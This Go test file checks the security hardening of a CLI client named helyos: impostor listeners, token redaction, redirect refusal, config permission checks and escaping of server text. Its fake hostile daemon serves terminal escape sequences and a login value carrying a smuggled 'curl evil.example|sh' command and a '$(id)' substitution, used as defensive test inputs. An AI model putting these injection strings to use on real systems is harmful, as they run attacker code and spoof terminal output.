package main

import (
	"bufio"
	"bytes"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
)

// Black-box tests of the client's hardening (issue 12): what it refuses to
// trust, send, follow or print.

// fakeToken is shaped like an API token but belongs to no daemon.
const fakeToken = "nxa-api_0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"

// needRoot skips a test that acts as another user unless it runs as root;
// under CI (which runs as root) it fails instead, so the evidence cannot
// quietly disappear.
func needRoot(t *testing.T) {
	t.Helper()
	if os.Getuid() != 0 {
		skipOrFailInCI(t, "this test acts as the user nobody and needs root")
	}
}

// writeConfig writes a hand-made client config under home.
func writeConfig(t *testing.T, home, content string) string {
	t.Helper()
	path := cliConfigPath(home)
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// runImpostor is the test binary re-executed as another user (see
// TestMain): it listens on addr, prints its port, and answers every
// request as a daemon would, printing whether it carried a token.
func runImpostor(addr string) {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		fmt.Println("listen:", err)
		os.Exit(1)
	}
	fmt.Printf("port %d\n", ln.Addr().(*net.TCPAddr).Port)
	http.Serve(ln, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Printf("request %s authorization=%t\n", r.URL.Path, r.Header.Get("Authorization") != "")
		fmt.Fprint(w, `{"name":"impostor","scope":"admin","created_at":"2024-01-01T00:00:00Z"}`)
	}))
}

// startImpostor runs runImpostor as the user nobody on addr and returns its
// port and its output so far (read it after the impostor has been stopped).
func startImpostor(t *testing.T, addr string) (int, func() string) {
	t.Helper()
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	// nobody cannot enter the 0700 folders go test builds in: copy the
	// test binary into one it can.
	dir, err := os.MkdirTemp("", "helyos-impostor-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	data := mustReadFile(t, self)
	bin := filepath.Join(dir, "impostor")
	if err := os.WriteFile(bin, data, 0o755); err != nil || os.Chmod(dir, 0o755) != nil {
		t.Fatal(err)
	}
	// A process forked by a parallel test may still hold the copy open for
	// writing until it execs: "text file busy" then only means try again.
	var cmd *exec.Cmd
	var stdout io.ReadCloser
	pollUntil(t, "the impostor binary to start", func() bool {
		cmd = exec.Command(bin, "-test.run=^$")
		cmd.Env = []string{"HELYOS_TEST_IMPOSTOR=" + addr}
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
		if stdout, err = cmd.StdoutPipe(); err == nil {
			err = cmd.Start()
		}
		if err != nil && !errors.Is(err, syscall.ETXTBSY) {
			t.Fatal(err)
		}
		return err == nil
	})
	out := &syncBuffer{}
	done := make(chan struct{})
	t.Cleanup(func() { cmd.Process.Kill(); <-done; cmd.Wait() })
	lines := bufio.NewReader(stdout)
	first, err := lines.ReadString('\n')
	port, perr := strconv.Atoi(strings.TrimSpace(strings.TrimPrefix(first, "port ")))
	if err != nil || perr != nil {
		close(done)
		t.Fatalf("impostor did not start: %q %v", first, err)
	}
	go func() { io.Copy(out, lines); close(done) }()
	stop := func() string { cmd.Process.Kill(); <-done; return out.String() }
	return port, stop
}

// TestCLILocalImpostor: while the daemon is down, another local user listens
// on its port. The CLI refuses, naming the port and the listener's owner,
// and the impostor receives no token (in fact no request).
func TestCLILocalImpostor(t *testing.T) {
	needRoot(t)
	t.Parallel()
	for _, tc := range []struct{ bind, host string }{
		{"127.0.0.1:0", "localhost"},
		{"127.0.0.1:0", "127.0.0.1"},
		{"[::1]:0", "[::1]"},
	} {
		t.Run(tc.host, func(t *testing.T) {
			t.Parallel()
			if tc.host == "[::1]" {
				if ln, err := net.Listen("tcp", "[::1]:0"); err != nil {
					skipOrFailInCI(t, "no IPv6 loopback: %v", err)
				} else {
					ln.Close()
				}
			}
			port, stop := startImpostor(t, tc.bind)
			home := t.TempDir()
			writeConfig(t, home, fmt.Sprintf("current-context = \"local\"\n\n[context.local]\nserver = \"http://%s:%d\"\ntoken = %q\n", tc.host, port, fakeToken))
			r := runHelyos(t, home, "", nil, "whoami")
			wantFail(t, r, 1, fmt.Sprintf("the listener on port %d belongs to uid 65534, not to you (uid 0) or root", port), "helyos: hint:")
			noTokenIn(t, r, fakeToken)
			if out := stop(); strings.Contains(out, "request") {
				t.Errorf("the impostor was sent a request:\n%s", out)
			}
		})
	}
	// Without a token there is nothing to steal: the public version route
	// is still asked.
	port, stop := startImpostor(t, "127.0.0.1:0")
	home := t.TempDir()
	writeConfig(t, home, fmt.Sprintf("[context.local]\nserver = \"http://localhost:%d\"\ntoken = %q\n", port, fakeToken))
	if r := mustRun(t, home, nil, "version"); strings.Contains(r.stderr, "warning") {
		t.Errorf("version warned: %s", r.stderr)
	}
	if out := stop(); !strings.Contains(out, "request /api/v1/version authorization=false") {
		t.Errorf("version did not reach the listener without a token:\n%s", out)
	}
}

// TestCheckPeer: the kernel's table rows as /proc/net/tcp and tcp6 print
// them, read for IPv4, IPv6 and IPv4-mapped peers; a loopback peer missing
// from the tables is refused; no tables at all warns once and goes on.
func TestCheckPeer(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	conn, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	local, remote := conn.LocalAddr().(*net.TCPAddr), conn.RemoteAddr().(*net.TCPAddr)
	// The kernel prints each 32-bit word of an address as the machine reads
	// it: 127.0.0.1 is 0100007F on a little-endian machine.
	word := binary.NativeEndian.Uint32
	v4 := func(port int) string { return fmt.Sprintf("%08X:%04X", word([]byte{127, 0, 0, 1}), port) }
	mapped := func(port int) string {
		return fmt.Sprintf("%08X%08X%08X%08X:%04X", 0, 0, word([]byte{0, 0, 0xff, 0xff}), word([]byte{127, 0, 0, 1}), port)
	}
	header := "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"
	row := func(l, r, uid string) string {
		return fmt.Sprintf("   0: %s %s 01 00000000:00000000 00:00000000 00000000 %5s        0 12345 1\n", l, r, uid)
	}
	me := strconv.Itoa(os.Getuid())
	for _, tc := range []struct {
		name, tcp, tcp6 string
		want            string // "" means accepted
	}{
		{"our own listener", row(v4(remote.Port), v4(local.Port), me), "", ""},
		{"root's listener", row(v4(remote.Port), v4(local.Port), "0"), "", ""},
		{"another user's listener", row(v4(local.Port), v4(remote.Port), me) + row(v4(remote.Port), v4(local.Port), "4242"), "",
			fmt.Sprintf("the listener on port %d belongs to uid 4242", remote.Port)},
		{"another user's dual-stack listener", row(v4(local.Port), v4(remote.Port), me), row(mapped(remote.Port), mapped(local.Port), "4242"),
			"belongs to uid 4242"},
		{"a row for another connection", row(v4(remote.Port), v4(local.Port+1), "0"), "", "its listener is not in"},
		{"no row", "", "", "its listener is not in"},
		{"a broken uid", row(v4(remote.Port), v4(local.Port), "x"), "", "belongs to uid x"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			os.WriteFile(filepath.Join(dir, "tcp"), []byte(header+tc.tcp), 0o600)
			os.WriteFile(filepath.Join(dir, "tcp6"), []byte(header+tc.tcp6), 0o600)
			err := checkPeer(conn, dir)
			if tc.want == "" && err != nil || tc.want != "" && (err == nil || !strings.Contains(err.Error(), tc.want)) {
				t.Errorf("checkPeer = %v, want %q", err, tc.want)
			}
		})
	}
	// The real tables hold this very connection, owned by this process.
	if err := checkPeer(conn, "/proc/net"); err != nil {
		t.Errorf("checkPeer on /proc/net: %v", err)
	}
	var warned bytes.Buffer
	dial := refuseForeignPeer((&net.Dialer{}).DialContext, filepath.Join(t.TempDir(), "none"), &warned)
	for range 2 {
		c, err := dial(t.Context(), "tcp", ln.Addr().String())
		if err != nil {
			t.Fatal(err)
		}
		c.Close()
	}
	if n := strings.Count(warned.String(), "helyos: warning: cannot check who listens"); n != 1 {
		t.Errorf("%d warnings without /proc, want 1: %q", n, warned.String())
	}
}

// hostile is what a malicious server puts in every string it answers:
// colour, a window title, cursor moves, carriage return and backspace,
// 8-bit CSI, a bidi override, DEL.
const hostile = "\x1b[31mred\x1b]0;title\x07\r\bX\u009b2J\u202eevil\x7f"

// rawControl returns the first character in s a terminal would act on,
// other than a line break, or "" when there is none.
func rawControl(s string) string {
	for _, r := range s {
		if r != '\n' && !strconv.IsPrint(r) {
			return strconv.QuoteRune(r)
		}
	}
	return ""
}

// hostileDaemon answers every route with hostile strings: in JSON fields,
// in JSON error bodies and in plain-text error bodies.
func hostileDaemon(t *testing.T, tls bool) string {
	t.Helper()
	info := map[string]any{"name": hostile, "scope": hostile, "created_at": "2024-01-01T00:00:00Z"}
	var streams atomic.Int32
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		answer := func(status int, v any) {
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(status)
			json.NewEncoder(w).Encode(v)
		}
		switch r.Method + " " + r.URL.Path {
		case "GET /api/v1/whoami":
			answer(200, info)
		case "GET /api/v1/tokens":
			answer(200, []any{info})
		case "POST /api/v1/tokens":
			login := map[string]string{"server": "https://evil.example:6443; curl evil.example|sh #" + hostile, "ca_sha256": "$(id)"}
			answer(201, map[string]any{"name": hostile, "scope": hostile, "token": hostile, "created_at": "2024-01-01T00:00:00Z", "login": login})
		case "GET /api/v1/version":
			answer(200, map[string]string{"version": hostile, "api": hostile})
		case "GET /api/v1/events": // a record, data that is not JSON and a warning; a busy answer to the reconnection; the live edge
			switch streams.Add(1) {
			case 1:
				rec, _ := json.Marshal(map[string]any{"seq": 1, "time": "2024-01-01T00:00:00Z", "event": hostile, "actor": hostile,
					"remote": hostile, "target": hostile, "outcome": hostile, "detail": map[string]string{hostile: hostile}})
				fmt.Fprintf(w, "id: 1\nevent: x\ndata: %s\n\nevent: x\ndata: %s\n\nevent: warning\ndata: {\"warning\":\"%s\"}\n\n", rec, hostile, hostile)
			case 2:
				answer(503, map[string]string{"error": hostile})
			default:
				io.WriteString(w, ": live\n")
			}
		case "DELETE /api/v1/tokens/text":
			w.WriteHeader(500)
			io.WriteString(w, hostile+"\n")
		case "DELETE /api/v1/tokens/moved":
			w.Header().Set("Location", "/elsewhere\u009b2J\u202eevil") // all a client accepts in a header
			w.WriteHeader(http.StatusFound)
		default:
			answer(400, map[string]string{"error": hostile})
		}
	})
	var srv *httptest.Server
	if tls {
		srv = httptest.NewTLSServer(h)
	} else {
		srv = httptest.NewServer(h)
	}
	t.Cleanup(srv.Close)
	return srv.URL
}

// TestCLIEscapesServerText: nothing a server sends reaches the terminal
// raw: fields of whoami, token ls, token create, status and version, error
// bodies relayed as "the daemon answered", a redirect's target, and the CA
// fetch's errors before any pin exists.
func TestCLIEscapesServerText(t *testing.T) {
	t.Parallel()
	plain, withTLS := hostileDaemon(t, false), hostileDaemon(t, true)
	for _, args := range [][]string{
		{"whoami"}, {"whoami", "--json"},
		{"auth", "token", "ls"}, {"auth", "token", "ls", "--json"},
		{"auth", "token", "create", "x"}, {"auth", "token", "create", "x", "--json"},
		{"status"}, {"status", "--json"}, {"version"}, {"version", "--json"}, {"events"}, {"events", "--json"},
		{"auth", "token", "revoke", "json"}, {"auth", "token", "revoke", "text"}, {"auth", "token", "revoke", "moved"},
		{"login", withTLS, "--ca-fingerprint", strings.Repeat("ab", 32), "--token", fakeToken},
	} {
		t.Run(strings.Join(args, " "), func(t *testing.T) {
			t.Parallel()
			if server := plain; args[0] != "login" {
				if args[0] == "events" { // its stream answers in turn: a daemon of its own
					server = hostileDaemon(t, false)
				}
				args = append([]string{"--server", server, "--token", fakeToken}, args...)
			}
			r := runHelyos(t, t.TempDir(), "", nil, args...)
			if c := rawControl(r.stdout + r.stderr); c != "" {
				t.Errorf("output holds %s raw:\nstdout: %q\nstderr: %q", c, r.stdout, r.stderr)
			}
			if !strings.Contains(r.stdout+r.stderr, `\u202eevil`) {
				t.Errorf("the server's text is not shown escaped:\nstdout: %q\nstderr: %q", r.stdout, r.stderr)
			}
			dec := json.NewDecoder(strings.NewReader(r.stdout)) // one value, or JSON lines
			for v := any(nil); strings.HasSuffix(args[len(args)-1], "--json") && r.code == 0 && dec.More(); {
				if err := dec.Decode(&v); err != nil {
					t.Fatalf("--json output is not JSON: %v: %q", err, r.stdout)
				}
			}
			if slices.Equal(args[len(args)-2:], []string{"create", "x"}) && (strings.Contains(r.stderr, "helyos login") || !strings.Contains(r.stderr, "no login line")) {
				t.Errorf("a login line to paste was built from the server's text:\n%s", r.stderr)
			}
		})
	}
}

// TestCLIRedactsTokensInErrors: a token typed where a name, a server or a
// fingerprint belongs is never echoed back, in any spelling.
func TestCLIRedactsTokensInErrors(t *testing.T) {
	t.Parallel()
	d := httpDaemon(t)
	notAServer := "the server address looks like an API token" // never looked up
	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"auth", "token", "revoke", fakeToken}, "revoke token"},
		{[]string{"auth", "token", "create", fakeToken}, "create token"},
		{[]string{"context", "use", fakeToken}, "does not exist"},
		{[]string{"context", "rm", fakeToken}, "does not exist"},
		{[]string{"context", "rename", "local", fakeToken}, "looks like an API token"},
		{[]string{"logout", fakeToken}, "does not exist"},
		{[]string{"--context", fakeToken, "whoami"}, "does not exist"},
		{[]string{"--context=" + fakeToken, "whoami"}, "does not exist"},
		{[]string{"login", "127.0.0.1:1", "--name", fakeToken}, "looks like an API token"},
		{[]string{"login", "https://127.0.0.1:1", "--ca-fingerprint", fakeToken}, "--ca-fingerprint"},
		{[]string{"login", fakeToken}, notAServer},
		{[]string{"login", fakeToken[:20]}, notAServer},
		{[]string{"--server", fakeToken, "whoami"}, notAServer},
		{[]string{"--server", "http://" + fakeToken, "whoami"}, notAServer},
		{[]string{"context", "set", "x", "--server", fakeToken}, notAServer},
		{[]string{"login", d.url, "--token-command", fakeToken}, "token command"}, // and sh's "not found"
		// A token cut short fits a name: refused, not stored for all to see.
		{[]string{"auth", "token", "create", fakeToken[:40]}, "token name looks like an API token"},
		{[]string{"login", d.url, "--name", fakeToken[:40]}, "context name looks like an API token"},
		{[]string{"context", "set", fakeToken[:40], "--server", d.url}, "context name looks like an API token"},
	} {
		t.Run(strings.Join(tc.args, " "), func(t *testing.T) {
			t.Parallel()
			r := runHelyos(t, d.home, "", nil, tc.args...)
			if r.code == 0 || !strings.Contains(r.stderr, "helyos: error:") || !strings.Contains(r.stderr, tc.want) {
				t.Errorf("exit %d, want an error saying %q:\n%s", r.code, tc.want, r.stderr)
			}
			noTokenIn(t, r, fakeToken, fakeToken[:20])
		})
	}
}

// TestCLIUnexpectedStatus: the client follows no redirect, and any success
// status but the one the route promises is an error naming it, so a
// proxy's redirect cannot pass for a revoke.
func TestCLIUnexpectedStatus(t *testing.T) {
	t.Parallel()
	var followed atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/followed" {
			followed.Add(1)
			w.WriteHeader(http.StatusNoContent)
			return
		}
		code, _ := strconv.Atoi(strings.TrimPrefix(r.URL.Path, "/api/v1/tokens/"))
		if r.Method == "POST" {
			code = http.StatusOK
		}
		w.Header().Set("Location", "/followed")
		w.WriteHeader(code)
		io.WriteString(w, `{"name":"x","scope":"admin","token":"`+fakeToken+`"}`)
	}))
	t.Cleanup(srv.Close)
	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"auth", "token", "revoke", "301"}, "answered HTTP 301 to DELETE /api/v1/tokens/301, not the 204 it promises"},
		{[]string{"auth", "token", "revoke", "302"}, "answered HTTP 302"},
		{[]string{"auth", "token", "revoke", "307"}, "answered HTTP 307"},
		{[]string{"auth", "token", "revoke", "308"}, "answered HTTP 308"},
		{[]string{"auth", "token", "revoke", "200"}, "answered HTTP 200 to DELETE /api/v1/tokens/200, not the 204"},
		{[]string{"auth", "token", "create", "x"}, "answered HTTP 200 to POST /api/v1/tokens, not the 201"},
	} {
		r := runHelyos(t, t.TempDir(), "", nil, append([]string{"--server", srv.URL, "--token", fakeToken}, tc.args...)...)
		wantFail(t, r, 1, tc.want, "follows no redirect")
		if strings.Contains(r.stderr, "revoked") || r.stdout != "" {
			t.Errorf("%v reported success:\nstdout: %s\nstderr: %s", tc.args, r.stdout, r.stderr)
		}
	}
	if n := followed.Load(); n != 0 {
		t.Errorf("the client followed %d redirects", n)
	}
}

// TestCLIContextSetNoDowngrade: context set never turns an https context
// into plain HTTP; other server changes keep the token and the pin.
func TestCLIContextSetNoDowngrade(t *testing.T) {
	t.Parallel()
	home := t.TempDir()
	caPEM := testCAPEM(t)
	cert, err := parseCAPEM(caPEM)
	if err != nil {
		t.Fatal(err)
	}
	path := writeConfig(t, home, fmt.Sprintf("[context.prod]\nserver = \"prod.example:6443\"\ntoken = %q\nca = %q\nca-sha256 = %q\n\n[context.dev]\nserver = \"http://127.0.0.1:1\"\n",
		fakeToken, encodeCA(caPEM), fingerprint(cert.Raw)))
	before := mustReadFile(t, path)
	for _, server := range []string{"http://127.0.0.1:2", "HTTP://prod.example:6443"} {
		r := runHelyos(t, home, "", nil, "context", "set", "prod", "--server", server)
		wantFail(t, r, 1, `context "prod" uses HTTPS; refusing to switch it to plain HTTP`, "helyos: hint: for a deliberate plain-HTTP daemon, log in to a context of its own: helyos login http://")
		noTokenIn(t, r, fakeToken)
		if after := mustReadFile(t, path); !bytes.Equal(after, before) {
			t.Fatalf("the refused change was saved:\n%s", after)
		}
	}
	mustRun(t, home, nil, "context", "set", "prod", "--server", "https://127.0.0.2:7443")
	if c := mustContext(t, home, "prod"); c.Server != "https://127.0.0.2:7443" || c.Token != fakeToken || c.CASHA256 != fingerprint(cert.Raw) {
		t.Errorf("the token or pin was lost: %+v", c)
	}
	mustRun(t, home, nil, "context", "set", "dev", "--server", "http://127.0.0.1:3") // http stays http
	mustRun(t, home, nil, "context", "set", "dev", "--server", "https://127.0.0.1:3")
}

// markerConfig is a config whose context runs a token-command that leaves
// marker behind, so a test can tell whether it ran.
func markerConfig(server, marker string) string {
	return fmt.Sprintf("current-context = \"m\"\n\n[context.m]\nserver = %q\ntoken-command = %q\n", server, "touch "+marker+"; echo "+fakeToken)
}

// TestCLIRefusesForeignConfig: a config another user owns, or that group or
// others can write, is refused before any credential is read from it: its
// token-command never runs, and nothing is saved over it.
func TestCLIRefusesForeignConfig(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name string
		mode os.FileMode
		uid  int
	}{
		{"owned by nobody", 0o600, 65534},
		{"group-writable", 0o620, -1},
		{"world-writable", 0o602, -1},
		{"writable by all", 0o666, -1},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if tc.uid >= 0 {
				needRoot(t)
			}
			t.Parallel()
			dir := t.TempDir()
			path, marker := filepath.Join(dir, "shared.toml"), filepath.Join(dir, "ran")
			if err := os.WriteFile(path, []byte(markerConfig("http://127.0.0.1:1", marker)), tc.mode); err != nil {
				t.Fatal(err)
			}
			os.Chmod(path, tc.mode) // past the umask
			owner := os.Getuid()
			if tc.uid >= 0 {
				if err := os.Chown(path, tc.uid, tc.uid); err != nil {
					t.Fatal(err)
				}
				owner = tc.uid
			}
			before := mustReadFile(t, path)
			env := []string{"HELYOS_CONFIG=" + path}
			for _, args := range [][]string{{"whoami"}, {"status"}, {"context", "ls"}, {"context", "set", "m", "--project", "p"}} {
				r := runHelyos(t, t.TempDir(), "", env, args...)
				wantFail(t, r, 1, fmt.Sprintf("refusing config %s: it is owned by uid %d with mode %04o", path, owner, tc.mode),
					fmt.Sprintf("helyos: hint: if its content is yours: chown %d %s && chmod 600 %s", os.Getuid(), path, path))
			}
			if _, err := os.Stat(marker); err == nil {
				t.Error("the token-command ran")
			}
			if after := mustReadFile(t, path); !bytes.Equal(after, before) {
				t.Errorf("the file was changed:\n%s", after)
			}
		})
	}
	// The control: at 0600, owned by the caller, the token-command runs.
	dir := t.TempDir()
	path, marker := filepath.Join(dir, "mine.toml"), filepath.Join(dir, "ran")
	os.WriteFile(path, []byte(markerConfig("http://127.0.0.1:1", marker)), 0o600)
	runHelyos(t, t.TempDir(), "", []string{"HELYOS_CONFIG=" + path}, "whoami")
	if _, err := os.Stat(marker); err != nil {
		t.Errorf("the token-command of a sound config did not run: %v", err)
	}
}

// TestCLILockFileSymlink: a symlink planted at config.toml.lock is refused,
// and neither an existing target nor a missing one is touched.
func TestCLILockFileSymlink(t *testing.T) {
	t.Parallel()
	for _, existing := range []bool{true, false} {
		home := t.TempDir()
		path := writeConfig(t, home, "[context.a]\nserver = \"https://a.example:6443\"\n")
		target := filepath.Join(t.TempDir(), "precious")
		if existing {
			os.WriteFile(target, []byte("precious\n"), 0o644)
		}
		if err := os.Symlink(target, path+".lock"); err != nil {
			t.Fatal(err)
		}
		r := runHelyos(t, home, "", nil, "context", "use", "a")
		wantFail(t, r, 1, "lock config: "+path+".lock is a symbolic link; refusing to follow it", "helyos: hint: remove it: rm "+path+".lock")
		data, err := os.ReadFile(target)
		switch {
		case existing && (err != nil || string(data) != "precious\n" || permOf(t, target) != 0o644):
			t.Errorf("the target changed: %q %v", data, err)
		case !existing && err == nil:
			t.Errorf("the symlink created its target")
		}
		if c := mustContext(t, home, "a"); readCLIConfig(t, home).CurrentContext != "" {
			t.Errorf("the save went ahead: %+v", c)
		}
	}
}

// TestCLILogoutLeavesNoToken: after logout no file holds the token, the
// backup included; so after context rm.
func TestCLILogoutLeavesNoToken(t *testing.T) {
	t.Parallel()
	d := httpDaemon(t)
	for _, drop := range [][]string{{"logout"}, {"context", "rm", "local"}} {
		home := t.TempDir()
		os.MkdirAll(filepath.Dir(cliConfigPath(home)), 0o700)
		writeConfig(t, home, string(mustReadFile(t, cliConfigPath(d.home))))
		mustRun(t, home, nil, "context", "set", "local", "--project", "p2") // the backup now holds the token
		if bak, _ := os.ReadFile(cliConfigPath(home) + ".bak"); !strings.Contains(string(bak), d.token) {
			t.Fatalf("the set-up did not put the token in the backup:\n%s", bak)
		}
		mustRun(t, home, nil, drop...)
		err := filepath.WalkDir(home, func(p string, e os.DirEntry, err error) error {
			if err != nil || e.IsDir() {
				return err
			}
			data, err := os.ReadFile(p)
			if strings.Contains(string(data), strings.TrimPrefix(d.token, "nxa-api_")) {
				t.Errorf("after %v, %s holds the token", drop, p)
			}
			return err
		})
		if err != nil {
			t.Errorf("after %v: %v", drop, err)
		}
	}
}

// TestCLIHelyosDirTightened: every save makes ~/.helyos 0700 again; a
// folder named through HELYOS_CONFIG, which may be shared, is left alone.
func TestCLIHelyosDirTightened(t *testing.T) {
	t.Parallel()
	home := t.TempDir()
	mustRun(t, home, nil, "context", "set", "a", "--server", "https://a.example")
	dir := filepath.Dir(cliConfigPath(home))
	os.Chmod(dir, 0o755)
	mustRun(t, home, nil, "context", "use", "a")
	if m := permOf(t, dir); m != 0o700 {
		t.Errorf("~/.helyos is %04o after a save, want 0700", m)
	}
	shared := filepath.Join(t.TempDir(), "etc-helyos")
	os.Mkdir(shared, 0o755)
	mustRun(t, home, []string{"HELYOS_CONFIG=" + filepath.Join(shared, "config.toml")}, "context", "set", "b", "--server", "https://b.example")
	if m := permOf(t, shared); m != 0o755 {
		t.Errorf("the HELYOS_CONFIG folder is %04o after a save, want it left 0755", m)
	}
}

// TestCLIPinContradictions: a ca-sha256 that does not match the ca, or
// insecure = true next to a ca, is an error before anything is dialled,
// never a silent choice.
func TestCLIPinContradictions(t *testing.T) {
	t.Parallel()
	caPEM, other := testCAPEM(t), testCAPEM(t)
	cert, _ := parseCAPEM(caPEM)
	otherCert, _ := parseCAPEM(other)
	for _, tc := range []struct{ name, extra, want string }{
		{"matching ca-sha256", "ca-sha256 = \"" + fingerprint(cert.Raw) + "\"\n", "connection refused"},
		{"no ca-sha256", "", "connection refused"},
		{"ca-sha256 of another CA", "ca-sha256 = \"" + fingerprint(otherCert.Raw) + "\"\n", `context "p": ca-sha256 does not match the pinned ca, whose fingerprint is ` + fingerprint(cert.Raw)},
		{"ca-sha256 not a fingerprint", "ca-sha256 = \"zz\"\n", "ca-sha256 does not match the pinned ca"},
		{"insecure and ca", "insecure = true\n", `context "p" sets both insecure = true and a pinned ca, which contradict each other`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			home := t.TempDir()
			writeConfig(t, home, fmt.Sprintf("[context.p]\nserver = \"https://127.0.0.1:1\"\ntoken = %q\nca = %q\n%s", fakeToken, encodeCA(caPEM), tc.extra))
			wantFail(t, runHelyos(t, home, "", nil, "whoami"), 1, tc.want)
		})
	}
}

// TestCLIVersionRunsNoTokenCommand: the version route is public, so
// version resolves no credential: the token-command does not run (whoami,
// the control, runs it).
func TestCLIVersionRunsNoTokenCommand(t *testing.T) {
	t.Parallel()
	d := httpDaemon(t)
	home := t.TempDir()
	marker := filepath.Join(home, "ran")
	writeConfig(t, home, markerConfig(d.url, marker))
	if r := mustRun(t, home, nil, "version"); !strings.Contains(r.stdout, "server: ") {
		t.Errorf("version did not ask the daemon:\n%s%s", r.stdout, r.stderr)
	}
	if _, err := os.Stat(marker); err == nil {
		t.Fatal("version ran the token-command")
	}
	runHelyos(t, home, "", nil, "whoami")
	if _, err := os.Stat(marker); err != nil {
		t.Errorf("whoami did not run the token-command: %v", err)
	}
}
